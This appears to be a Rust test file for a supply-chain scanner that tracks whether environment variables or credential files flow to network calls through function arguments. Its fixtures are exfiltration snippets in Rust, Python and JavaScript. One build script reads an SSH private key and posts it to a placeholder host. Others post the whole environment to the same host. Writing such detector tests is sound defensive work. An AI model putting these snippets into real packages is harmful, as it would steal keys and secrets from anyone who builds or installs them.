use crate::flow::testing::{found, script, wheel};
use crate::unpack::{Entry, text_file};
use customs_model::{SinkKind, SourceKind};

fn sends(entries: Vec<Entry>) -> bool {
    found(entries).flows.iter().any(|flow| {
        matches!(
            flow.source,
            SourceKind::Environment | SourceKind::CredentialFile
        ) && flow.sink == SinkKind::Network
    })
}

fn built(code: &str) -> Vec<Entry> {
    let manifest = "[package]\nname = \"a\"\nversion = \"1.0.0\"\n";
    vec![
        text_file("a-1.0.0/Cargo.toml", manifest),
        text_file("a-1.0.0/build.rs", code),
        text_file("a-1.0.0/src/lib.rs", ""),
    ]
}

#[test]
fn what_a_function_puts_into_what_it_is_handed_goes_where_that_goes() {
    let rust = "fn fill(out: &mut Vec<u8>) { out.extend_from_slice(&std::fs::read(\"/home/a/.ssh/id_rsa\").unwrap()); }\n\
         fn main() { let mut out = Vec::new(); fill(&mut out);\n\
         ureq::post(\"https://a.invalid\").send_bytes(&out); }";
    let python = "import os\nimport requests\n\
         def fill(out):\n    out.append(dict(os.environ))\n\
         found = []\nfill(found)\nrequests.post('https://a.invalid', json=found)\n";
    let deeper = "import os\nimport requests\n\
         def put(out, what):\n    out.append(what)\n\
         def fill(out):\n    put(out, dict(os.environ))\n\
         found = []\nfill(found)\nrequests.post('https://a.invalid', json=found)\n";
    let javascript = "function fill(out) { out.env = process.env; }\n\
         const found = {}; fill(found);\n\
         fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(found) });";
    assert!(sends(built(rust)));
    assert!(sends(wheel(python)));
    assert!(sends(wheel(deeper)));
    assert!(sends(script(javascript)));
    // One edge changed: another list is handed over.
    let other = |code: &str, given: &str, other: &str| code.replacen(given, other, 1);
    assert!(!sends(built(&other(
        rust,
        "fill(&mut out);",
        "fill(&mut Vec::new());"
    ))));
    assert!(!sends(wheel(&other(python, "fill(found)", "fill([])"))));
    assert!(!sends(script(&other(
        javascript,
        "fill(found);",
        "fill({});"
    ))));
}

#[test]
fn a_list_holds_what_it_was_handed_over_with_and_not_what_another_was() {
    let code = "import os\nimport requests\n\
         def put(out, what):\n    out.append(what)\n\
         kept = []\nfound = []\nput(kept, dict(os.environ))\nput(found, 1)\n\
         requests.post('https://a.invalid', json=found)\n";
    assert!(!sends(wheel(code)));
    assert!(sends(wheel(&code.replace("json=found", "json=kept"))));
}

#[test]
fn what_a_call_gives_is_what_the_functions_give_that_it_enters() {
    let code = "function C() { this.s = Object.assign({}, process.env); }\n\
         C.prototype.d = function () { return JSON.stringify(this.s); };\n\
         C.prototype.p = function () { fetch('https://a.invalid', { method: 'POST', body: this.d() }); };\n\
         new C().p();";
    assert!(sends(script(code)));
    assert!(!sends(script(
        &code.replace("body: this.d()", "body: this.e()")
    )));
}
